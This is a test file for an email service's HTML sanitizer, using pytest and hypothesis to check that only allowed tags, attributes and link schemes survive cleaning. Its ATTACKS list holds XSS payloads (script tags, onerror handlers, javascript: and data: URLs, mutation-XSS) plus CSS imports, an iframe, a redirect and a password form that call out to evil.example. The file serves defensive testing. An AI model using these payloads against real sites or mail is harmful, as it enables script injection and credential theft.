"""Hypertext: of what others write nothing harmful is left."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from services.outbound.domain.hypertext import (
    ATTRIBUTES,
    SCHEMES,
    TAGS,
    cleaned,
    html_of,
    text_of,
)
from tests.mail_checker import attributes, links, links_of, tags

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\nscript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    "<svg onload=alert(1)><animate/></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<style>@import 'https://evil.example'</style>",
    '<p style="position:fixed;background:url(https://evil.example/x)">x</p>',
    "<iframe src=https://evil.example></iframe>",
    '<form action="https://evil.example"><input name=password></form>',
    '<base href="https://evil.example/"><link rel=stylesheet href=x>',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    "<object data=x></object><embed src=x>",
    "<!--[if mso]><p>hidden</p><![endif]-->",
    "<<a>script>alert(1)<</a>/script>",
]
markup = st.lists(
    st.one_of(
        st.sampled_from(ATTACKS),
        st.sampled_from(
            ["<p ", "<a href=", "'", '"', ">", "</p>", "<!--", "<b", "&#x"]
        ),
        st.text(max_size=12),
    ),
    max_size=8,
).map("".join)


def harmless(html):
    return set(tags(html)) <= TAGS and all(
        name in ATTRIBUTES.get(tag, set()) | ATTRIBUTES["*"]
        and ("script" not in (value or "").lower() or name in ("alt", "title", "href"))
        for tag, name, value in attributes(html)
    )


@pytest.mark.requirement("TP-2")
@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_comes_out_harmless(attack):
    html = cleaned(attack)
    assert harmless(html)
    assert "<script" not in html
    assert "evil.example" not in html


@pytest.mark.requirement("TP-2")
@given(markup)
def test_whatever_goes_in_only_what_is_allowed_comes_out(told):
    html = cleaned(told)
    assert harmless(html)
    for link in links_of(html):
        assert (link or "").partition(":")[0].lower() in SCHEMES or ":" not in link
    assert cleaned(html) == html


@pytest.mark.requirement("TP-2")
@pytest.mark.parametrize("scheme", ["ftp", "tel", "sms", "file", "cid"])
def test_a_link_leads_to_a_page_or_a_mailbox_only(scheme):
    for good in ("https://a.example", "mailto:a@b.example"):
        assert f'href="{good}"' in cleaned(f'<a href="{good}">x</a>')
    assert cleaned(f'<a href="{scheme}:x">x</a>') == "<a>x</a>"


@given(st.text(max_size=200))
def test_plain_text_stays_what_it_says(told):
    html = html_of(told)
    assert set(tags(html)) <= {"p", "br", "a"}
    assert links(told) >= links_of(html)


def test_text_made_of_html_tells_where_its_links_lead():
    html = '<p>See <a href="https://a.example/?b=1&amp;c=2">us</a></p><ul><li>one</ul>'
    assert text_of(html) == "See [us](https://a.example/?b=1&c=2)\n\n  * one"
